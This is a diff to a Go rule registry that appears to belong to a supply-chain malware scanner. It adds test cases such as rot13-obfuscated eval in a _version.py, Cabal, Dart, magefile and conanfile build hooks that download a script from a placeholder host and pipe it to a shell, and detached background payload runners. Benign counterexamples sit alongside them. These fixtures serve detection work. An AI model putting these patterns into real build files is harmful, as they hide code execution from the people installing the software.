@@ -57,6 +57,11 @@ var registry = []Rule{
 			{"x.sh", "echo $P | base64 -d > /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x", 3, false},
 			{"x.js", "const s = Buffer.from(h, 'hex').toString()\nconst m = new module.constructor()\nm._compile(s, 'x.js')", 3, false},
 			{"x.sh", "echo aGkK | base64 -d > out.txt", 0, true},
+			// rot13 through any codecs alias, run by an evaluator named in a
+			// string (getattr on an aliased builtins, a name joined from pieces).
+			{"pkg/_version.py", "import builtins as b\nimport codecs as c\nm = c.decode('cevag(1)', 'rot_13')\ngetattr(b, 'ev' + 'al')(m)", 4, false},
+			{"pkg/_version.py", "import codecs as c\nm = c.decode('cevag(1)', 'rot13')\ngetattr(__import__('builtins'), 'exec')(m)", 3, false},
+			{"pkg/_version.py", "import codecs as c\nname = c.decode(raw, 'utf-8')\nprint(getattr(obj, 'na' + 'me'))", 0, true},
 			{".github/workflows/w.yml", "jobs:\n  b:\n    steps:\n      - shell: pwsh\n        run: |\n          $s = 'SQBFAFgA'\n          Start-Process powershell -ArgumentList '-NoProfile', '-EncodedCommand', $s", 7, false},
 			{"x.bat", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", 0, false},
 			{"build.bat", "certutil -decode tools\\cfg.txt %TEMP%\\u.exe && %TEMP%\\u.exe", 0, false},
@@ -187,6 +192,14 @@ var registry = []Rule{
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// Build code of other ecosystems: a Cabal Setup.hs hook, a Dart
+		// build hook, a magefile handing a download to a shell's stdin.
+		{"Setup.hs", "import Distribution.Simple\nimport System.Process (callCommand)\nmain = defaultMainWithHooks simpleUserHooks\n  { preBuild = \\a f -> do\n      callCommand \"curl -fsSL https://x.invalid/s.sh | sh\"\n      preBuild simpleUserHooks a f\n  }", 5, false},
+		{"hook/build.dart", "import 'dart:io';\nvoid main(List<String> args) async {\n  final s = await HttpClient()\n      .getUrl(Uri.parse('https://x.invalid/p.sh'))\n      .then((r) => r.close())\n      .then((r) => r.transform(const SystemEncoding().decoder).join());\n  await Process.run('sh', ['-c', s]);\n}", 7, false},
+		{"hook/build.dart", "import 'dart:io';\nvoid main(List<String> args) async {\n  await Process.run('cargo', ['build', '--release']);\n}", 0, true},
+		{"magefile.go", "package main\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\nfunc Build() error {\n\tresp, err := http.Get(\"https://x.invalid/w.sh\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tcmd := exec.Command(\"sh\")\n\tcmd.Stdin = resp.Body\n\treturn cmd.Run()\n}", 13, false},
+		// A download unpacked by tar through its stdin is not run.
+		{"magefile.go", "package main\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\nfunc Build() error {\n\tresp, err := http.Get(\"https://x.invalid/t.tgz\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tcmd := exec.Command(\"tar\", \"xz\")\n\tcmd.Stdin = resp.Body\n\treturn cmd.Run()\n}", 0, true},
 		// A step's run given as a YAML alias is the anchored text, run in
 		// that step's turn.
 		{".github/workflows/a.yml", "on: push\nx-fetch: &fetch curl -s https://x.invalid/p -o /tmp/p.sh\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: *fetch\n      - run: bash /tmp/p.sh", 8, false},
@@ -715,6 +728,14 @@ var registry = []Rule{
 		"the install returns and the process keeps running, out of the build log's sight, with the runner's network and secrets (as the Shai-Hulud loader started its payload)", []Case{
 			{"setup_bun.js", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -2,3 +2,4 @@\n   \"scripts\": {\n+    \"preinstall\": \"node setup_bun.js\",\n     \"test\": \"jest\"\n   },\ndiff --git a/setup_bun.js b/setup_bun.js\nnew file mode 100644\n--- /dev/null\n+++ b/setup_bun.js\n@@ -0,0 +1,3 @@\n+const { spawn } = require('child_process')\n+const p = require('path')\n+spawn('bun', [p.join(__dirname, 'env.js')], { detached: true, stdio: 'ignore' }).unref()\n", 3, false},
 			{"setup.py", "import subprocess\nsubprocess.Popen(['python', 'agent.py'], start_new_session=True)", 2, false},
+			// A conanfile downloads a script and leaves it running in the background.
+			{"conanfile.py", "from conan import ConanFile\nfrom conan.tools.files import download\nclass P(ConanFile):\n    def build(self):\n        download(self, 'https://x.invalid/f.sh', 'f.sh')\n        self.run('sh f.sh >/dev/null 2>&1 &')", 6, false},
+			// Whatever runs it, a script that installs a runtime and leaves a
+			// program running with its output thrown away.
+			{"setup_rt.js", "const { execSync, spawn } = require('child_process')\nexecSync('curl -fsSL https://x.invalid/install | bash', { stdio: 'ignore' })\nspawn(rt, [payload], { detached: true, stdio: 'ignore' }).unref()", 3, false},
+			{"tools/warm.py", "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.invalid/a', '/tmp/a')\nsubprocess.Popen(['/tmp/a'], start_new_session=True, stdout=subprocess.DEVNULL)", 3, false},
+			// An update check that fetches inside the child it detaches.
+			{"lib/notify.js", "const { spawn } = require('child_process')\nspawn(process.execPath, [check], { detached: true, stdio: 'ignore' }).unref()", 0, true},
 			// A CLI that checks for updates in the background is not run at install.
 			{"lib/cli.js", "const { spawn } = require('child_process')\nspawn(process.execPath, [check], { detached: true }).unref()", 2, true},
 		}},
